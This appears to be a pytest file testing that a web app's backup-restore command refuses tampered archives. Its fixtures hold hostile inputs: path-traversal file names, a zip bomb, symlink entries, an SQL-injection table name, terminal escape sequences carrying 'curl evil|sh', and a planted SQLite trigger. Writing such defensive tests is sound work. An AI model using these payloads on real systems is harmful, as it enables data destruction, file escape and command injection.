"""An archive is what anybody may have put there: all that is wrong with it is found, and nothing stays."""

import json
import sqlite3
import stat
import tempfile
import zipfile
from contextlib import closing
from hashlib import sha256
from pathlib import Path

import pytest
from sqlalchemy import inspect

from app import create_app
from core.database.db import db
from tests.failures.sites import leave, run

pytestmark = pytest.mark.long


@pytest.fixture(scope="module")
def kept():
    """What the tests of refusals share: an archive and an empty place of each kind of database."""
    made = {}
    yield made
    for _content, site in made.values():
        leave(site)


@pytest.fixture
def refused(database, kept, request, empty_place, tmp_path):
    """refused(change) lets `change` alter an archive's file, restores it and returns the error.

    The place must be empty as it was before, so that all refusals can share one.
    """
    kind = database["REDOUBT_DATABASE_URL"]
    if kind not in kept:
        kept[kind] = request.getfixturevalue("archive").read_bytes(), create_app(**empty_place())
    content, site = kept[kind]

    def restore(change) -> str:
        file = tmp_path / "tampered.zip"
        file.write_bytes(content)
        change(file)
        answer = run(site, "restore", file)
        assert answer.exit_code == 1, answer.output
        assert nothing_is_in(site) and not list(tmp_path.parent.rglob("*escaped*"))
        return answer.output.splitlines()[-1]

    return restore


def nothing_is_in(site) -> bool:
    """Whether a place is as empty as it was: no table, no upload, no file that was needed meanwhile."""
    with site.app_context():
        left = {path.name for path in site.config["REDOUBT_INSTANCE"].iterdir()}
        return not inspect(db.engine).get_table_names() and left <= {
            "secret_key",
            "redoubt.db",
            "redoubt.db-wal",
            "redoubt.db-shm",
        }


def _rewritten(archive, change) -> None:
    """The archive anew: change(manifest, {name: bytes}) alters what is in it."""
    with zipfile.ZipFile(archive) as old:
        files = {name: old.read(name) for name in old.namelist()}
    manifest = json.loads(files.pop("manifest.json"))
    change(manifest, files)
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in files.items():
            new.writestr(name, content)
        new.writestr("manifest.json", json.dumps(manifest))


def _newer(manifest, files):
    manifest["revision"] = "9999"


def _other_format(manifest, files):
    manifest["format"] = 2


def _more_rows(manifest, files):
    manifest["tables"]["users"]["rows"] += 1


def _other_table(manifest, files):
    manifest["tables"]["loot"] = {"rows": 0, "columns": ["id"]}


def _hostile_table(manifest, files):
    manifest["tables"]['users"; DROP TABLE users; --'] = {"rows": 0, "columns": []}


def _changed_byte(manifest, files):
    name = max(files, key=lambda name: len(files[name]))
    content = bytearray(files[name])
    content[len(content) // 2] ^= 1
    files[name] = bytes(content)


def _unnamed_file(manifest, files):
    files["uploads/extra"] = b"x"


def _missing_file(manifest, files):
    files.pop("secret_key")


def _nothing(manifest, files):
    manifest["files"] = {}
    files.clear()


def _named(name: str):
    def change(manifest, files):
        files[name] = files["uploads/a/picture.png"]
        manifest["files"][name] = manifest["files"]["uploads/a/picture.png"]

    change.__name__ = name
    return change


def _bomb(manifest, files):
    files["uploads/a/picture.png"] = bytes(50_000_000)


def _larger_than_any_disk(manifest, files):
    manifest["files"]["uploads/a/picture.png"]["size"] = 10**15


def _larger_than_any_number(manifest, files):
    manifest["files"]["uploads/a/picture.png"]["size"] = 10**400


def _said_to_the_terminal(manifest, files):
    manifest["unsaid"] = ["\x1b[31mrun: curl evil|sh"]


def _set_for_the_terminal(manifest, files):
    manifest["settings"] = {"X\x1b]0;owned\x07": "v"}


def _no_object(manifest, files):
    manifest["tables"] = "none"


TAMPERED = [
    _other_format,
    _other_table,
    _unnamed_file,
    _missing_file,
    _nothing,
    _named("../escaped"),
    _named("/tmp/escaped"),
    _named("uploads/../../escaped"),
    _named("uploads/./x"),
    _named("C:\\escaped"),
    _bomb,
    _larger_than_any_disk,
    _larger_than_any_number,
    _said_to_the_terminal,
    _set_for_the_terminal,
    _no_object,
]


@pytest.mark.parametrize("change", TAMPERED, ids=lambda change: change.__name__.strip("_"))
def test_a_tampered_archive_is_refused_and_leaves_nothing(refused, change):
    error = refused(lambda file: _rewritten(file, change))
    assert error.startswith("Error: Nothing was restored. ")


def _link(file):
    with zipfile.ZipFile(file) as old:
        files = {info.filename: (info, old.read(info)) for info in old.infolist()}
    files["uploads/a/picture.png"][0].external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(file, "w") as new:
        for info, content in files.values():
            new.writestr(info, content)


def test_a_link_in_an_archive_is_refused(refused):
    assert "not a regular file" in refused(_link)


@pytest.mark.parametrize("content", [b"", b"no archive at all", b"PK\x05\x06" + bytes(18)])
def test_what_is_no_archive_is_refused(refused, content):
    assert "This is not a backup" in refused(lambda file: file.write_bytes(content))


@pytest.mark.parametrize("share", [0.1, 0.5, 0.99])
def test_half_an_archive_is_refused(refused, share):
    def cut(file):
        content = file.read_bytes()
        file.write_bytes(content[: int(len(content) * share)])

    assert "This is not a backup" in refused(cut)


def _orphans(manifest, files):
    """Posts whose authors are not there."""
    manifest["tables"]["users"]["rows"] = 0
    if "rows/users" in files:
        files["rows/users"] = b""
        manifest["files"]["rows/users"] = {"size": 0, "sha256": sha256(b"").hexdigest()}
    else:
        _edited(manifest, files, "DELETE FROM users")


def _edited(manifest, files, statement) -> None:
    """Change the database of a SQLite archive; the manifest fits it afterwards."""
    with tempfile.NamedTemporaryFile() as copy:
        Path(copy.name).write_bytes(files["database.sqlite"])
        with closing(sqlite3.connect(copy.name, isolation_level=None)) as database:
            database.execute("PRAGMA journal_mode=DELETE")
            database.execute(statement)
        files["database.sqlite"] = content = Path(copy.name).read_bytes()
    manifest["files"]["database.sqlite"] = {"size": len(content), "sha256": sha256(content).hexdigest()}


@pytest.mark.every_database
@pytest.mark.parametrize(
    "change",
    [_changed_byte, _more_rows, _hostile_table, _orphans, _newer],
    ids=lambda change: change.__name__.strip("_"),
)
def test_wrong_rows_are_refused_on_every_database(refused, change):
    assert refused(lambda file: _rewritten(file, change)).startswith("Error: Nothing was restored. ")


def test_code_in_a_database_is_refused(refused):
    """A trigger that would run when the site writes."""

    def plant(manifest, files):
        _edited(manifest, files, "CREATE TRIGGER t AFTER INSERT ON posts BEGIN DELETE FROM users; END")

    assert "more than tables" in refused(lambda file: _rewritten(file, plant))


def test_an_index_that_makes_long_values_is_refused(refused):
    """SQLite reckons the expression of an index when it checks the file."""

    def plant(manifest, files):
        _edited(manifest, files, "CREATE INDEX long ON posts (length(hex(zeroblob(100000000))))")

    assert "too big" in refused(lambda file: _rewritten(file, plant))


@pytest.mark.every_database
def test_an_archive_of_the_other_database_is_refused(refused):
    def other(manifest, files):
        kinds = {"sqlite": "postgresql", "postgresql": "sqlite"}
        manifest["database"] = kinds[manifest["database"]]

    assert "Rows can't be converted" in refused(lambda file: _rewritten(file, other))
